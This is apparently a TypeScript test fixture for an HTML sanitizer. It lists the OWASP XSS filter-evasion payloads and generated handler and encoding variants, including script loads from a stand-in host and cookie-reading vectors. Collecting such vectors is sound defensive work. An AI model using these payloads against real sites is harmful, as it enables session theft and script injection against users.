/**
 * Attacks of the OWASP XSS Filter Evasion Cheat Sheet, in its order and under its headings
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, as of November 2026). Hosts
 * are replaced by ones that cannot exist, so that a request for one shows that an attack worked.
 */
export const XSS_VECTORS: readonly string[] = [
  // Basic, polyglot, malformed tags
  '<SCRIPT SRC=https://xss.invalid/index.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  // Character references
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=java\0script:alert("XSS")>',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  // Brackets, slashes, unclosed tags
  '<SCRIPT/XSS SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<SCRIPT/SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.invalid/xss.js?< B >',
  '<SCRIPT SRC=//xss.invalid/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.invalid/scriptlet.html <',
  "\\\";alert('XSS');//",
  "</script><script>alert('XSS');</script>",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  // Other places for addresses and code
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<IMG SRC="livescript:[code]">',
  "<svg/onload=alert('XSS')>",
  'Set.constructor`alert\\x28document.domain\\x29',
  "<BODY ONLOAD=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  // Style sheets
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="http://xss.invalid/xss.css">',
  "<STYLE>@import'http://xss.invalid/xss.css';</STYLE>",
  '<META HTTP-EQUIV="Link" Content="<http://xss.invalid/xss.css>; REL=stylesheet">',
  '<STYLE>BODY{-moz-binding:url("http://xss.invalid/xssmoz.xml#xss")}</STYLE>',
  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<STYLE type="text/css">BODY{background:url("<javascript:alert>(\'XSS\')")}</STYLE>',
  '<XSS STYLE="xss:expression(alert(\'XSS\'))">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '¼script¾alert(¢XSS¢)¼/script¾',
  // Documents in documents
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<DIV STYLE="background-image: url(\u0001javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.invalid/scriptlet.html"></OBJECT>',
  '<EMBED SRC="http://xss.invalid/xss.swf" AllowScriptAccess="always"></EMBED>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  'a="get";\nb="URL(\\"";\nc="javascript:";\nd="alert(\'XSS\');\\")";\neval(a+b+c+d);',
  '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>\n<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  '<XML SRC="xsstest.xml" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
  '<HTML><BODY>\n<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">\n<?import namespace="t" implementation="#default#time2">\n<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>">\n</BODY></HTML>',
  '<SCRIPT SRC="http://xss.invalid/xss.jpg"></SCRIPT>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.invalid/xss.js></SCRIPT>\'"-->',
  "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
  '<IMG SRC="http://xss.invalid/somecommand.php?somevariables=maliciouscode">',
  'Redirect 302 /a.jpg http://xss.invalid/admin.asp&deleteuser',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
  // Quotes
  '<SCRIPT a=">" SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<SCRIPT a=">" \'\' SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<SCRIPT a=">\'>" SRC="http://xss.invalid/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://xss.invalid/xss.js"></SCRIPT>',
  // Addresses
  '<A HREF="http://66.102.7.147/">XSS</A>',
  '<A HREF="http://%77%77%77%2E%78%73%73%2E%69%6E%76%61%6C%69%64">XSS</A>',
  '<A HREF="http://1113982867/">XSS</A>',
  '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
  '<A HREF="http://0102.0146.0007.00000223/">XSS</A>',
  '<img onload="eval(atob(\'YWxlcnQoMSk=\'))">',
  '<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>',
  '<A HREF="//xss.invalid/">XSS</A>',
  '<A HREF="//xss">XSS</A>',
  '<A HREF="http://xss.invalid@xss">XSS</A>',
  '<A HREF="http://xss:xss.invalid">XSS</A>',
  '<A HREF="http://www.xss.invalid./">XSS</A>',
  '<A HREF="javascript:document.location=\'http://www.xss.invalid/\'">XSS</A>',
  '<A HREF="http://www.xss.invalid/ogle.com/">XSS</A>',
  'a href="/Share?content_type=1&title=This is a regular title&amp;content_type=1;alert(1)">Share</a>',
  '<script>\nvar contentType = 1; alert(1);\nvar title = "This is a regular title";\n</script>',
  // Past web application firewalls
  '<javascript:alert(document.cookie)>',
  '<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=',
  '<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">',
  '<Video> <source onerror = "javascript: alert (XSS)">',
  '<Input value = "XSS" type = text>',
  '<applet code="javascript:confirm(document.cookie);">',
  '<isindex x="javascript:" onmouseover="alert(XSS)">',
  '"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
  '"><img src="x:x" onerror="alert(XSS)">',
  '"><iframe src="javascript:alert(XSS)">',
  '<object data="javascript:alert(XSS)">',
  '<isindex type=image src=1 onerror=alert(XSS)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img  src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>',
  '<iframe/src="data:text/html,<svg onload=alert(1)>">',
  '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>',
  "<svg><script xlink:href=data&colon;,window.open('https://xss.invalid/')></script",
  '<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">',
  '<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>',
  '<form><a href="javascript:\\u0061lert(1)">X',
  '</script><img/*%00/src="worksinchrome&colon;prompt(1)"/%00*/onerror=\'eval(src)\'>',
  '<style>//*{x:expression(alert(/xss/))}//<style></style>',
  '<img src="/" =_=" title="onerror=\'prompt(1)\'">',
  '<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe',
  '<script x> alert(1) </script 1=2',
  '<form><button formaction=javascript&colon;alert(1)>CLICKME',
  '<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"',
  '<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>',
  '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>',
  // Alerts in disguise, in the shortest tag that runs them
  ...[
    '(alert)(1)',
    'a=alert,a(1)',
    '[1].find(alert)',
    "top['al'+'ert'](1)",
    'top[/al/.source+/ert/.source](1)',
    'al\\u0065rt(1)',
    "top['al\\145rt'](1)",
    "top['al\\x65rt'](1)",
    'top[8680439..toString(30)](1)',
    'alert?.()',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack, not a template
    '`${alert``}`',
    '(alert())',
  ].map((code) => `<img src=x onerror="${code}">`),
  // Not of the sheet: parsers that disagree on nesting, and handlers that need no one
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">',
];

const EVENTS =
  'FSCommand Abort Activate AfterPrint AfterUpdate BeforeActivate BeforeCopy BeforeCut BeforeDeactivate BeforeEditFocus BeforePaste BeforePrint BeforeUnload BeforeUpdate Begin Blur Bounce CellChange Change Click ContextMenu ControlSelect Copy Cut DataAvailable DataSetChanged DataSetComplete DblClick Deactivate Drag DragEnd DragEnter DragLeave DragOver DragDrop DragStart Drop End Error ErrorUpdate FilterChange Finish Focus FocusIn FocusOut HashChange Help Input KeyDown KeyPress KeyUp LayoutComplete Load LoseCapture MediaComplete MediaError Message MouseDown MouseEnter MouseLeave MouseMove MouseOut MouseOver MouseUp MouseWheel Move MoveEnd MoveStart Offline Online OutOfSync Paste Pause PopState Progress PropertyChange ReadyStateChange Redo Repeat Reset Resize ResizeEnd ResizeStart Resume Reverse RowsEnter RowExit RowDelete RowInserted Scroll Seek Select SelectionChange SelectStart Start Stop Storage SyncRestored Submit TimeError TrackChange Undo Unload URLFlip'.split(
    ' ',
  );

/** Every event that the sheet lists, as a handler in a tag. */
export const XSS_HANDLERS: readonly string[] = EVENTS.map(
  (event) => `<img src=x on${event}="alert(1)">`,
);

/** All ways to write "<" that the sheet lists, each in front of a script. */
export const XSS_ESCAPES: readonly string[] = lessThans().map(
  (sign) => `${sign}script>alert(1)${sign}/script>`,
);

function lessThans(): string[] {
  const plain = ['<', '%3C', '&lt', '&lt;', '&LT', '&LT;', '\\x3c', '\\x3C', '\\u003c', '\\u003C'];
  const numbers: string[] = [];
  for (let zeros = 0; zeros <= 5; zeros++) {
    const pad = '0'.repeat(zeros);
    for (const end of ['', ';']) {
      numbers.push(`&#${pad}60${end}`);
      for (const x of ['x', 'X']) {
        for (const digits of ['3c', '3C']) numbers.push(`&#${x}${pad}${digits}${end}`);
      }
    }
  }
  return [...plain, ...numbers];
}
